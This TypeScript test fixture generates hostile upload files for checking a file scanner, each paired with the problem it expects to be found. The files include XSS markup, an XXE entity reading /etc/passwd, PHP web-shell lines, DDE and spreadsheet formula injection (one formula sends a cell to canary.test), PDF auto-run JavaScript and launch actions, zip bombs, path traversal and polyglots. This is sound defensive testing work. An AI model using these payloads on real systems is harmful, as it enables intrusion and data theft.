import { deflateSync } from 'node:zlib';
import { madePdf } from '../../lib/document/testing/made-pdf.ts';
import { zip } from '../../lib/table/testing/files.ts';
import { madeVideo, officeParts, type SentFile } from './honest-files.ts';
import { chances, madePhoto, madePicture, madeScene } from './made-pictures.ts';

/** A file made to harm, and the problems any of which is a right answer to it. */
export interface HostileFile extends SentFile {
  readonly problems: readonly string[];
}

const SCRIPT = '<script>fetch("https://canary.test/")</script>';
const RELATIONS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const DTD = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>';
const ZIPPED = zip([['run.js', 'fetch("https://canary.test/")']]);
const EXECUTABLE = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(78),
  Buffer.from('This program cannot be run in DOS mode.'),
]);

const one = (name: string, bytes: Uint8Array | string, ...problems: readonly string[]): HostileFile => ({
  name,
  bytes: typeof bytes === 'string' ? Buffer.from(bytes) : bytes,
  problems,
});

function markup(i: number): HostileFile {
  const texts = [
    `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(${i})"/>`,
    madeScene(i),
    `<!doctype html><html><body>${SCRIPT}`,
    `\ufeff  <?xml version="1.0"?>${DTD}<x>&e;</x>`,
    `甲,乙\n1,${SCRIPT}\n`,
    '#!/bin/sh\ncurl https://canary.test/\n',
    '@echo off\r\nstart calc.exe\r\n',
    `说明\n<?php system($_GET["${i}"]); ?>\n`,
    'MIME-Version: 1.0\nContent-Type: multipart/related\n\n',
    `看这里：javascript:alert(${i})\n`,
  ];
  const names = ['a.jpg', 'a.svg', 'a.pdf', 'a.txt', 'a.csv'];
  return one(`${i}${names[i % names.length]}`, texts[i % texts.length] ?? '', 'evidence-markup');
}

function formula(i: number): HostileFile {
  const cells = [
    `=cmd|'/C calc'!A0`,
    `=HYPERLINK("https://canary.test/?"&A1,"${i}")`,
    `+cmd|'/C powershell'!A1`,
    `@WEBSERVICE("https://canary.test/")`,
    `＝cmd|'/C calc'!A0`,
    `-DDE("cmd","/C calc","${i}")`,
  ];
  return one(
    `表${i}.csv`,
    `姓名,数\r\n甲,"${cells[i % cells.length]?.replaceAll('"', '""')}"\r\n`,
    'evidence-external',
  );
}

function office(i: number): HostileFile {
  const kinds = ['docx', 'xlsx', 'pptx'] as const;
  const kind = kinds[i % 3] ?? 'docx';
  const folder = { docx: 'word', xlsx: 'xl', pptx: 'ppt' }[kind];
  const make = (more: Readonly<Record<string, string | Buffer>>) => zip(officeParts(kind, '文', more));
  const relation = (type: string, target: string) => ({
    [`${folder}/_rels/extra.xml.rels`]: `<Relationships><Relationship Id="r" Type="${RELATIONS}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  });
  const name = `${i}.${kind}`;
  const cases: readonly (() => HostileFile)[] = [
    () => one(name, make({ [`${folder}/vbaProject.bin`]: 'x' }), 'evidence-macro'),
    () => one(name, make({ [`${folder}/activeX/activeX1.xml`]: '<x/>' }), 'evidence-macro'),
    () => one(name, make({ [`${folder}/embeddings/oleObject1.bin`]: 'x' }), 'evidence-macro'),
    () => one(name, make({ [`${folder}/media/${i}.svg`]: '<svg/>' }), 'evidence-macro'),
    () => one(name, make({ 'docProps/app.xml': `<?xml version="1.0"?>${DTD}<x>&e;</x>` }), 'evidence-entity'),
    () => one(name, make(relation('attachedTemplate', `https://canary.test/${i}.dotm`)), 'evidence-external'),
    () => one(name, make(relation('image', `\\\\canary.test\\${i}`)), 'evidence-external'),
    () => one(name, make(relation('hyperlink', 'javascript:alert(1)')), 'evidence-external'),
    () =>
      one(
        name,
        make({ [`${folder}/extra.xml`]: `<p><t>DDE</t><t>AUTO c:\\\\windows\\\\cmd ${i}</t></p>` }),
        'evidence-external',
      ),
    () => one(name, make({ [`${folder}/links.xml`]: '<externalLink><ddeLink/></externalLink>' }), 'evidence-external'),
    () => one(name, make({ [`${folder}/bomb.xml`]: `<x>${'0'.repeat(12 << 20)}</x>` }), 'evidence-bomb'),
    () => one(name, zip(officeParts(kind, '文'), { declared: 3 }), 'evidence-bomb', 'evidence-damaged'),
    () => one(name, zip(officeParts(kind, '文'), { overlapping: true }), 'evidence-bomb'),
    () => one(name, zip(officeParts(kind, '文'), { checksum: i }), 'evidence-damaged'),
    () => one(name, zip(officeParts(kind, '文'), { encrypted: true }), 'evidence-encrypted'),
    () => one(name, make({ [`../../${i}.txt`]: 'x' }), 'evidence-bomb'),
    () => one(name, Buffer.concat([make({}), Buffer.from(SCRIPT)]), 'evidence-polyglot'),
    () =>
      one(
        name,
        zip([...officeParts(kind, '文').slice(0, 1), ['a.txt', '%PDF-1.7']], { uncompressed: true }),
        'evidence-polyglot',
      ),
    () => one(name, ZIPPED, 'evidence-kind-not-taken'),
    () => one(`${i}.pdf`, make({}), 'evidence-wrong-ending'),
    () => one(name, make({ [`${folder}/chunk.xml`]: '<altChunk/>' }), 'evidence-macro'),
    () => one(name, make({}).subarray(0, -30), 'evidence-damaged'),
  ];
  return (cases[i % cases.length] ?? cases[0] ?? markup.bind(null, i))();
}

function pdf(i: number): HostileFile {
  const honest = Buffer.from(madePdf([[{ text: `第${i}页`, x: 72, y: 700 }]]));
  const changed = (to: string) =>
    Buffer.from(honest.toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${to}`), 'latin1');
  const withObject = (body: string | Buffer, dictionary: string) => {
    const stream = Buffer.concat([
      Buffer.from(`\n90 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n`),
      Buffer.from(body),
      Buffer.from('\nendstream\nendobj\n'),
    ]);
    const end = honest.lastIndexOf('xref');
    return Buffer.concat([honest.subarray(0, end), stream, honest.subarray(end)]);
  };
  const script = `1 0 <</S/JavaScript/JS(app.alert(${i}))>>`;
  const name = `通知${i}.pdf`;
  const cases: readonly (() => HostileFile)[] = [
    () => one(name, changed(`/OpenAction <</S/JavaScript/JS(app.alert(${i}))>>`), 'evidence-pdf-active'),
    () => one(name, changed('/OpenAction <</S/#4aava#53cript/JS(x)>>'), 'evidence-pdf-active'),
    () => one(name, changed('/AA <</O <</S/Launch/F(calc.exe)>>>>'), 'evidence-pdf-active'),
    () => one(name, changed('/Names <</EmbeddedFiles 9 0 R>>'), 'evidence-pdf-active'),
    () => one(name, changed('/AcroForm <</XFA 9 0 R>>'), 'evidence-pdf-active'),
    () => one(name, changed('/OpenAction <</S/SubmitForm/F(https://canary.test/)>>'), 'evidence-pdf-active'),
    () => one(name, changed('/Annot <</Subtype/RichMedia>>'), 'evidence-pdf-active'),
    () =>
      one(
        name,
        withObject(deflateSync(script), '/Type/ObjStm /N 1 /First 4 /Filter/FlateDecode'),
        'evidence-pdf-active',
      ),
    () =>
      one(
        name,
        withObject(
          Buffer.from(deflateSync(script)).toString('hex'),
          '/Type/Obj#53tm /N 1 /Filter[/ASCIIHexDecode/FlateDecode]',
        ),
        'evidence-pdf-active',
      ),
    () =>
      one(name, withObject(`x\nendobj\n91 0 obj<</S/JavaScript/JS(${i})>>`, '/Type/Metadata'), 'evidence-pdf-active'),
    () =>
      one(name, withObject(deflateSync(Buffer.alloc(140 << 20)), '/Type/ObjStm /Filter/FlateDecode'), 'evidence-bomb'),
    () => one(name, changed('/Encrypt 9 0 R'), 'evidence-encrypted'),
    () => one(name, Buffer.concat([honest, ZIPPED]), 'evidence-polyglot'),
    () => one(name, Buffer.concat([honest, Buffer.from(SCRIPT)]), 'evidence-polyglot'),
    () => one(name, Buffer.concat([honest, Buffer.alloc(5000, 65)]), 'evidence-polyglot'),
    () => one(name, honest.subarray(0, honest.length >> 1), 'evidence-damaged'),
    () => one(`通知${i}.docx`, honest, 'evidence-wrong-ending'),
    () => one(name, `%PDF-1.7\n${SCRIPT}\n%%EOF`, 'evidence-polyglot'),
  ];
  return (cases[i % cases.length] ?? cases[0] ?? markup.bind(null, i))();
}

/** A PNG whose header claims a huge picture. */
function flood(png: Buffer, wide: number, high: number): Buffer {
  const bytes = Buffer.from(png);
  bytes.writeUInt32BE(wide, 16);
  bytes.writeUInt32BE(high, 20);
  bytes.writeUInt32BE(crcOf(bytes.subarray(12, 29)), 29);
  return bytes;
}

function crcOf(bytes: Uint8Array): number {
  let crc = 0xffff_ffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb8_8320 : crc >>> 1;
  }
  return (crc ^ 0xffff_ffff) >>> 0;
}

async function picture(i: number): Promise<HostileFile> {
  const photo = await madePhoto(i, { wide: 160, high: 120 });
  const png = await madePicture(i, 'png');
  const comment = (text: string) => {
    const segment = Buffer.alloc(4);
    segment.writeUInt16BE(0xfffe, 0);
    segment.writeUInt16BE(text.length + 2, 2);
    return Buffer.concat([photo.subarray(0, 2), segment, Buffer.from(text), photo.subarray(2)]);
  };
  const name = `照片${i}.jpg`;
  const cases: readonly (() => HostileFile)[] = [
    () => one(name, Buffer.concat([photo, ZIPPED]), 'evidence-polyglot'),
    () => one(name, comment(SCRIPT), 'evidence-polyglot'),
    () => one(name, comment('*/=alert(1)/*<?php eval($_GET[0]);'), 'evidence-polyglot'),
    () => one(name, comment('%PDF-1.7 1 0 obj'), 'evidence-polyglot'),
    () => one(name, Buffer.concat([photo, EXECUTABLE]), 'evidence-polyglot'),
    () => one(name, Buffer.concat([photo, Buffer.from('Rar!\x1a\x07\0', 'latin1')]), 'evidence-polyglot'),
    () => one(name, photo.subarray(0, photo.length * 0.6), 'evidence-damaged'),
    () => one(name, Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200, i)]), 'evidence-damaged'),
    () => one(`${i}.png`, flood(png, 60_000, 60_000), 'evidence-pixels'),
    () => one(`${i}.png`, flood(png, 20_000, 20_000), 'evidence-pixels'),
    () => one(`${i}.png`, png.subarray(0, png.length - 40), 'evidence-damaged'),
    () => one(`${i}.png`, photo, 'evidence-wrong-ending'),
    () => one(`${i}.jpg.exe`, photo, 'evidence-wrong-ending'),
    () => one(`${i}.gif`, Buffer.concat([Buffer.from('GIF89a'), Buffer.alloc(50)]), 'evidence-kind-not-taken'),
  ];
  return (cases[i % cases.length] ?? cases[0] ?? markup.bind(null, i))();
}

function other(i: number): HostileFile {
  const chance = chances(i);
  const noise = Buffer.from(Array.from({ length: 200 }, (_, at) => (at === 0 ? 0 : Math.floor(chance() * 256))));
  const video = madeVideo('isom', 300 + i);
  const cases: readonly (() => HostileFile)[] = [
    () => one(`${i}.txt`, '', 'evidence-empty'),
    () => one(`${i}.pdf`, EXECUTABLE, 'evidence-kind-not-taken'),
    () =>
      one(
        `${i}.docx`,
        Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(500)]),
        'evidence-kind-not-taken',
      ),
    () => one(`${i}.txt`, noise, 'evidence-kind-not-taken'),
    () => one(`${i}.mp4`, Buffer.concat([video, Buffer.from(SCRIPT)]), 'evidence-polyglot'),
    () => one(`${i}.mp4`, Buffer.concat([video, ZIPPED]), 'evidence-polyglot', 'evidence-damaged'),
    () => one(`${i}.mp4`, video.subarray(0, -5), 'evidence-damaged'),
    () => one(`${i}.mp4`, Buffer.concat([video, Buffer.alloc(3)]), 'evidence-damaged'),
    () => one(`${i}.rtf`, '{\\rtf1\\ansi{\\object\\objautlink}}', 'evidence-kind-not-taken'),
    () => one(`${i}.bat`, '甲乙丙\n', 'evidence-wrong-ending'),
    () =>
      one(`${i}.heic`, Buffer.concat([Buffer.from('\0\0\0\x18ftypheic'), Buffer.alloc(40)]), 'evidence-kind-not-taken'),
    () => one(`${i}.txt`, Buffer.concat([Buffer.from('甲'), Buffer.from([0, 1, 2])]), 'evidence-kind-not-taken'),
  ];
  return (cases[i % cases.length] ?? cases[0] ?? markup.bind(null, i))();
}

/** So many hostile files of every sort. */
export async function hostileFiles(count: number): Promise<readonly HostileFile[]> {
  const files: HostileFile[] = [];
  const makers = [markup, formula, office, pdf, picture, other];
  for (let i = 0; i < count; i++) {
    const make = makers[i % makers.length] ?? markup;
    files.push(await make(Math.floor(i / makers.length)));
  }
  return files;
}
